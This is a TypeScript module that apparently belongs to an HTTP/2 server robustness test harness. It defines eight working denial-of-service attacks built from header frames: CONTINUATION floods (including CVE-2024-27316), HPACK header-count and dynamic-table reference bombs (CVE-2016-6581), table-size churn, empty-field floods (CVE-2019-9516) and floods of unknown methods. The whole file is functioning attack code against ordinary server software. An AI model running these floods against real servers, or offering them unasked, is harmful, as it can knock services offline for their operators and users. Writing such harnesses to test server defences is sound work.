/**
 * Header blocks that cost the server more than they cost the sender.
 *
 * @module
 */
import { headerBlock, uint32 } from "../http2/raw_connection.ts";
import { frame, joined } from "../support/http2_frames.ts";
import {
  CANCEL,
  CONTINUATION,
  END_HEADERS,
  END_STREAM,
  HEADERS,
  MAX_FRAME_BYTES,
  RST_STREAM,
} from "../support/http2_numbers.ts";
import { INDEXING, literal } from "../http2/hpack_senders.ts";
import { type Attack, PACKETS_PATH } from "./attacker.ts";
import { streamIds, volley } from "./frames.ts";

/** Larger than one frame. */
const largeBlock = headerBlock(PACKETS_PATH, { "x-large": "y".repeat(16_000) });

/** A block in HEADERS and as many CONTINUATION frames as it needs. */
function blockFrames(streamId: number, block: Uint8Array | readonly number[], flags = 0): Uint8Array[] {
  const bytes = Uint8Array.from(block), frames: Uint8Array[] = [];
  for (let at = 0; at < bytes.length; at += MAX_FRAME_BYTES) {
    const part = bytes.subarray(at, at + MAX_FRAME_BYTES);
    const last = at + MAX_FRAME_BYTES >= bytes.length ? END_HEADERS : 0;
    frames.push(
      at === 0 ? frame(HEADERS, last | flags, streamId, part) : frame(CONTINUATION, last, streamId, part),
    );
  }
  return frames;
}

const request = headerBlock(PACKETS_PATH);

/** A reference to the newest field of the dynamic table, and one to `accept-encoding: gzip, deflate`. */
const NEWEST_FIELD = 0x80 | 62, ACCEPT_ENCODING = 0x80 | 16;

/** See the module. */
export const headerAttacks: readonly Attack[] = [
  {
    name: "Empty CONTINUATION flood after a block of 32 KiB",
    mustEnd: true,
    run: (attacker) =>
      attacker.repeat(async (connection) => {
        await connection.send(frame(HEADERS, 0, 1, largeBlock), frame(CONTINUATION, 0, 1, largeBlock));
        await connection.flood(volley(frame(CONTINUATION, 0, 1)));
      }),
  },
  {
    name: "CONTINUATION without end (CVE-2024-27316)",
    mustEnd: true,
    run: (attacker) =>
      attacker.repeat(async (connection) => {
        await connection.send(frame(HEADERS, 0, 1, request));
        await connection.flood(frame(CONTINUATION, 0, 1, largeBlock));
      }),
  },
  {
    name: "Complete header blocks in CONTINUATION frames of one byte",
    run: (attacker) =>
      attacker.repeat(async (connection) => {
        const block = headerBlock(PACKETS_PATH, { "x-large": "y".repeat(8000) });
        const pieces = block.map((byte, i) =>
          frame(CONTINUATION, i === block.length - 1 ? END_HEADERS : 0, 0, [byte])
        );
        for (let id = 1; connection.open; id += 2) {
          await connection.send(frame(HEADERS, 0, id), ...pieces.map((piece) => ofStream(piece, id)));
          await connection.send(frame(RST_STREAM, 0, id, uint32(CANCEL)));
        }
      }),
  },
  {
    name: "HPACK: 32,000 fields of one byte each per call (header-count bomb)",
    mustEnd: true,
    run: (attacker) =>
      attacker.repeat(async (connection) => {
        const fields = new Uint8Array(32_000).fill(ACCEPT_ENCODING, 0);
        const block = joined(Uint8Array.from(request), fields.subarray(request.length));
        for (let id = 1; connection.open; id += 2) {
          await connection.send(...blockFrames(id, block, END_STREAM));
        }
      }),
  },
  {
    name: "HPACK: a field of 4 kB, referred to 16,000 times per call (CVE-2016-6581)",
    mustEnd: true,
    run: (attacker) =>
      attacker.repeat(async (connection) => {
        const insert = literal(INDEXING, "x-large", "y".repeat(4000));
        await connection.send(...blockFrames(1, joined(Uint8Array.from(request), insert), END_STREAM));
        const bomb = joined(Uint8Array.from(request), new Uint8Array(16_000).fill(NEWEST_FIELD));
        for (let id = 3; connection.open; id += 2) {
          await connection.send(...blockFrames(id, bomb, END_STREAM));
        }
      }),
  },
  {
    name: "HPACK: the table filled and emptied by changes of its size",
    run: (attacker) =>
      attacker.repeat(async (connection) => {
        const insert = literal(INDEXING, "x", "");
        // Size 0, size 4096 (RFC 7541, 6.3), and 120 entries of 33 bytes.
        const block = joined(
          Uint8Array.of(0x20, 0x3f, 0xe1, 0x1f),
          ...Array.from({ length: 120 }, () => insert),
        );
        for (let id = 1; connection.open; id += 2) {
          const call = frame(HEADERS, END_HEADERS | END_STREAM, id, joined(block, Uint8Array.from(request)));
          await connection.send(call, frame(RST_STREAM, 0, id, uint32(CANCEL)));
        }
      }),
  },
  {
    name: "Fields without a name and a value (CVE-2019-9516)",
    mustEnd: true,
    run: (attacker) =>
      attacker.repeat(async (connection) => {
        const nothing = joined(...Array.from({ length: 2000 }, () => literal(0x10, "", "")));
        const block = joined(Uint8Array.from(request), nothing);
        for (let id = 1; connection.open; id += 2) {
          await connection.send(...blockFrames(id, block, END_STREAM));
        }
      }),
  },
  {
    name: "Calls of unknown methods at full speed",
    run: (attacker) =>
      attacker.repeat(async (connection) => {
        for (let id = 1; connection.open; id += 200) {
          const block = headerBlock("/no.such/Method"), flags = END_HEADERS | END_STREAM;
          await connection.send(...streamIds(100, id).map((call) => frame(HEADERS, flags, call, block)));
          while (connection.open && connection.outcomes.size < 100) await connection.roomChanged();
          connection.outcomes.clear();
        }
      }),
  },
];

/** The same frame on another stream. */
function ofStream(bytes: Uint8Array, streamId: number): Uint8Array {
  const own = bytes.slice();
  own.set(uint32(streamId), 5);
  return own;
}
